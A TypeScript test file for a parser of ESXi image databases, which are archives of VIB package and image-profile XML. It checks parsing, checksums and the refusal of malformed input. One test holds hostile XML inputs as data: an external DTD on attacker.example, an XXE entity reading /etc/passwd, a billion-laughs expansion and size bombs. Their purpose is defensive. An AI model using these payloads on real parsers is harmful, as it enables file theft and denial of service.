import { createHash } from 'node:crypto'
import { gunzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { concatBytes, fromHex, toHex, utf8 } from '../../../src/bytes/index.js'
import { readImageDatabase } from '../../../src/measured-boot/index.js'
import {
  databaseFiles,
  profileXml,
  refusalOf,
  systemTgz,
  testImage,
  tgzOf,
  vibXml,
  withFiles,
} from './fixtures.js'

const image = testImage('24022510')
type Files = ReadonlyMap<string, string | Uint8Array>
const vibPath = 'var/db/esximg/vibs/esx-base-123456789.xml'
const profilePath = `var/db/esximg/profiles/${image.name}`

describe('a database', () => {
  test.each<[string, (files: Files) => Uint8Array | Promise<Uint8Array>]>([
    ['made here', tgzOf],
    ['of GNU tar', (files) => systemTgz(files)],
    ['of GNU tar in the pax format', (files) => systemTgz(files, '--format=posix')],
    ['of GNU tar in the ustar format', (files) => systemTgz(files, '--format=ustar')],
    ['of GNU tar in the old format', (files) => systemTgz(files, '--format=oldgnu')],
    ['of GNU tar without folders', (files) => systemTgz(files, '--format=v7')],
  ])('%s gives its packages and profile', async (_, pack) => {
    const database = await readImageDatabase(await pack(databaseFiles(image)))
    expect(database.profiles).toMatchObject([
      { name: image.name, creator: 'Acme, Inc.', version: '8.0.3-0.0.24022510' },
    ])
    expect([...database.vibs.keys()].toSorted()).toEqual([
      'Acme Net_bootbank_ne1000_0.9.0-1',
      'Acme_bootbank_esx-base_8.0.3-0.0.24022510',
      'Acme_bootbank_esx-update_8.0.3-0.0.24022510',
    ])
    const base = database.vibs.get('Acme_bootbank_esx-base_8.0.3-0.0.24022510')
    expect(base).toMatchObject({
      name: 'esx-base',
      vendor: 'Acme',
      type: 'bootbank',
      version: '8.0.3-0.0.24022510',
      acceptanceLevel: 'partner',
    })
    expect(base?.payloads.map(({ name, type }) => `${name} ${type}`)).toEqual([
      'b boot',
      'k boot',
      's vgz',
      'sb vgz',
    ])
    const kernel = base?.payloads[1]
    const digest = (hash: string) => createHash(hash).update('k of 24022510').digest('hex')
    expect(toHex(kernel?.unpacked.get('sha256') ?? new Uint8Array(0))).toBe(digest('sha256'))
    expect(toHex(kernel?.unpacked.get('sha1') ?? new Uint8Array(0))).toBe(digest('sha1'))
    expect(kernel?.packed.size).toBe(1)
    expect(database.profiles[0]?.vibs[0]?.files.get('k')).toBe('k.b00')
  })

  test('has the digests of its own archive', async () => {
    const bytes = await tgzOf(databaseFiles(image))
    const { digests } = await readImageDatabase(bytes)
    expect(toHex(digests.get('sha384') ?? bytes)).toBe(
      createHash('sha384').update(gunzipSync(bytes)).digest('hex'),
    )
  })

  test('names of over 100 characters are read whole', async () => {
    const path = `var/db/esximg/vibs/${'long-'.repeat(40)}.xml`
    const vib = vibXml({ name: 'long', version: '1', payloads: [] })
    for (const bytes of [await tgzOf(withFiles([path, vib])), systemTgz(withFiles([path, vib]))]) {
      expect((await readImageDatabase(bytes)).vibs.has('Acme_bootbank_long_1')).toBe(true)
    }
  })

  test('checksums of other kinds and by other programs are passed over', async () => {
    const xml = vibXml({
      name: 'x',
      version: '1',
      payloads: [{ name: 'x', type: 'vgz', contents: 'x', file: 'x.v00' }],
    })
    const more = `<checksum checksum-type="md5">00</checksum><checksum checksum-type="sha-256" verify-process="unxz">00</checksum><checksum checksum-type="__proto__">00</checksum></payload>`
    const { vibs } = await readImageDatabase(
      await tgzOf(withFiles(['var/db/esximg/vibs/x.xml', xml.replace('</payload>', more)])),
    )
    const [payload] = vibs.get('Acme_bootbank_x_1')?.payloads ?? []
    expect([...(payload?.packed.keys() ?? [])]).toEqual(['sha256'])
    expect([...(payload?.unpacked.keys() ?? [])]).toEqual(['sha256', 'sha1'])
  })

  test.each(['', ' encoding="us-ascii"', ' encoding="utf8"'])(
    'XML that declares%s is UTF-8',
    async (declared) => {
      const xml = vibXml({ name: 'x', version: '1', payloads: [] }).replace(" encoding='UTF-8'", declared)
      expect(xml).toContain(`<?xml version='1.0'${declared}?>`)
      const { vibs } = await readImageDatabase(await tgzOf(withFiles(['var/db/esximg/vibs/x.xml', xml])))
      expect(vibs.has('Acme_bootbank_x_1')).toBe(true)
    },
  )

  test('a word that is no acceptance level is none', async () => {
    const level = async (word: string) => {
      const xml = vibXml({ name: 'x', version: '1', level: word, payloads: [] })
      const { vibs } = await readImageDatabase(await tgzOf(withFiles(['var/db/esximg/vibs/x.xml', xml])))
      return vibs.get('Acme_bootbank_x_1')?.acceptanceLevel
    }
    expect([await level('certified'), await level('VMwareCertified'), await level('')]).toEqual([
      'certified',
      'unknown',
      'unknown',
    ])
  })

  test('an image without a kernel has no version', async () => {
    const small = { name: 'small', vibs: image.vibs.slice(2) }
    expect((await readImageDatabase(await tgzOf(databaseFiles(small)))).profiles[0]?.version).toBeUndefined()
  })
})

describe('what the files say', () => {
  const vib = vibXml(image.vibs[0] ?? { name: '', version: '', payloads: [] })
  const profile = profileXml(image)
  const at = (path: string) => expect.stringContaining(`${path}:`)

  test.each<[string, string, string, string]>([
    ['no name', vib, vib.replace('<name>esx-base</name>', ''), 'name on one line'],
    ['two names', vib, vib.replace('<name>', '<name>x</name><name>'), 'one element name'],
    ['an empty version', vib, vib.replace('8.0.3-0.0.24022510', ''), 'version on one line'],
    ['a vendor on two lines', vib, vib.replace('>Acme<', '>Ac&#10;me<'), 'vendor on one line'],
    ['another root', vib, '<bulletin/>', 'the element vib'],
    ['an element around it', vib, `<x>${vib.slice(vib.indexOf('<vib'))}</x>`, 'the element vib'],
    ['a payload without a name', vib, vib.replace(' name="k"', ''), 'name on one line'],
    ['a payload twice', vib, vib.replace('name="k"', 'name="b"'), 'each payload once'],
    ['a size below zero', vib, vib.replace(/ size="\d+"/, ' size="-1"'), 'a size in bytes'],
    ['a size in words', vib, vib.replace(/ size="\d+"/, ' size="1e3"'), 'a size in bytes'],
    ['a checksum of no kind', vib, vib.replace('checksum-type="sha-1"', ''), 'checksum-type on one line'],
    [
      'a checksum that is cut',
      vib,
      vib.replace(/[0-9a-f]{2}<\/checksum>/, '</checksum>'),
      '32 bytes in hexadecimal',
    ],
    [
      'a checksum of letters',
      vib,
      vib.replace(/[0-9a-f]{2}<\/checksum>/, 'zz</checksum>'),
      '32 bytes in hexadecimal',
    ],
    ['a checksum twice', vib, vib.replace(' verify-process="gunzip"', ''), 'each checksum once'],
  ])('a package with %s is refused where that is', async (_, original, xml, expected) => {
    expect(xml).not.toBe(original)
    expect(await refusalOf(await tgzOf(withFiles([vibPath, xml])))).toMatchObject({
      path: at(vibPath),
      expected: expect.stringContaining(expected),
    })
  })

  test.each<[string, string, string]>([
    ['no name', profile.replace(/<name>.*<\/name>/, ''), 'name on one line'],
    ['another root', profile.replaceAll('imageprofile', 'profile'), 'the element imageprofile'],
    ['a package without an id', profile.replace(/<vib-id>[^<]*<\/vib-id>/, ''), 'vib-id on one line'],
    ['a package twice', profile.replace(/(<vib>.*?<\/vib>)/, '$1$1'), 'each package once'],
    ['a payload twice', profile.replace('payload-name="k"', 'payload-name="b"'), 'each payload once'],
    ['a file on two lines', profile.replace('>k.b00<', '>k&#x0a;b00<'), 'a file name on one line'],
    ['two lists', profile.replace('<viblist>', '<viblist/><viblist>'), 'one element viblist'],
  ])('a profile with %s is refused where that is', async (_, xml, expected) => {
    expect(xml).not.toBe(profile)
    expect(await refusalOf(await tgzOf(withFiles([profilePath, xml])))).toMatchObject({
      path: at(profilePath),
      expected: expect.stringContaining(expected),
    })
  })

  test('a profile of a package that is not there is refused', async () => {
    expect(await refusalOf(await tgzOf(withFiles([vibPath, undefined])))).toMatchObject({
      path: `profile ${image.name}`,
      expected: expect.stringContaining('Acme_bootbank_esx-base_8.0.3-0.0.24022510'),
    })
  })

  test('a package in two files is refused', async () => {
    expect(await refusalOf(await tgzOf(withFiles(['var/db/esximg/vibs/again.xml', vib])))).toMatchObject({
      expected: 'each package once',
    })
  })

  test('T-31: XML that is more than XML needs is refused', async () => {
    const bombs: [string, string][] = [
      ['<!DOCTYPE vib><vib/>', 'no document type'],
      ['<!DOCTYPE vib SYSTEM "http://attacker.example/x.dtd"><vib/>', 'no document type'],
      [`<!DOCTYPE vib [<!ENTITY a "x">${entities()}]><vib><name>&j;</name></vib>`, 'no document type'],
      [
        '<!DOCTYPE vib [<!ENTITY x SYSTEM "file:///etc/passwd">]><vib><name>&x;</name></vib>',
        'no document type',
      ],
      ['<vib><name>&x;</name></vib>', 'well-formed'],
      ['<vib><name>&#0;</name></vib>', 'well-formed'],
      ['<vib><name>x</vib>', 'well-formed'],
      ['<vib>', 'well-formed'],
      ['', 'well-formed'],
      ['<vib/><vib/>', 'well-formed'],
      ['<vib a="1" a="2"/>', 'well-formed'],
      ['<vib a=1/>', 'well-formed'],
      [`<?xml version="1.0" encoding="UTF-16"?>${vib.slice(vib.indexOf('<vib'))}`, 'UTF-8'],
      [`<?xml version="1.0" encoding="ISO-8859-1"?>${vib.slice(vib.indexOf('<vib'))}`, 'UTF-8'],
      [`<vib>${'<a>'.repeat(100_000)}`, 'in at most 16'],
      [`<vib ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')}/>`, 'at most 32 attributes'],
      [`<vib>${'<a/>'.repeat(300_000)}</vib>`, 'at most 200000 elements'],
      [`<vib><name>${'x'.repeat(1025)}</name></vib>`, 'at most 1024 characters'],
      [`<vib version="${'x'.repeat(1025)}"/>`, 'at most 1024 characters'],
      [`<vib><name>${'<![CDATA[xx]]>'.repeat(513)}</name></vib>`, 'at most 1024 characters'],
      [`<vib>${' '.repeat(9 * 1024 * 1024)}</vib>`, 'at most 8388608 bytes'],
    ]
    for (const [xml, expected] of bombs) {
      const context = await refusalOf(await tgzOf(withFiles([vibPath, xml])))
      expect([xml.slice(0, 60), context?.path, context?.expected]).toEqual([
        xml.slice(0, 60),
        expect.stringContaining(vibPath),
        expect.stringContaining(expected),
      ])
    }
    const latin1 = concatBytes(utf8('<vib><name>'), fromHex('e9'), utf8('</name></vib>'))
    expect(await refusalOf(await tgzOf(withFiles([vibPath, latin1])))).toMatchObject({
      path: vibPath,
      expected: 'UTF-8',
    })
  })

  test('names of attributes and elements that objects have of themselves are names', async () => {
    const xml = vib
      .replace('<vib version', '<vib __proto__="x" constructor="y" toString="z" version')
      .replace('<urls>', '<constructor/><__proto__>x</__proto__><urls>')
    const { vibs } = await readImageDatabase(await tgzOf(withFiles([vibPath, xml])))
    expect(vibs.has('Acme_bootbank_esx-base_8.0.3-0.0.24022510')).toBe(true)
  })

  test('the place is that of the element', async () => {
    const xml =
      '<vib>\n  <name>x</name>\n  <payloads>\n    <payload name="p" type="vgz" size="x"/></payloads></vib>'
    const whole = xml.replace('<name>', '<type>t</type><version>1</version><vendor>v</vendor><name>')
    expect(await refusalOf(await tgzOf(withFiles([vibPath, whole])))).toMatchObject({
      path: `${vibPath}:4:43`,
    })
  })

  function entities(): string {
    const names = [...'abcdefghij']
    return names
      .slice(1)
      .map((name, i) => `<!ENTITY ${name} "${`&${names[i]};`.repeat(10)}">`)
      .join('')
  }
})
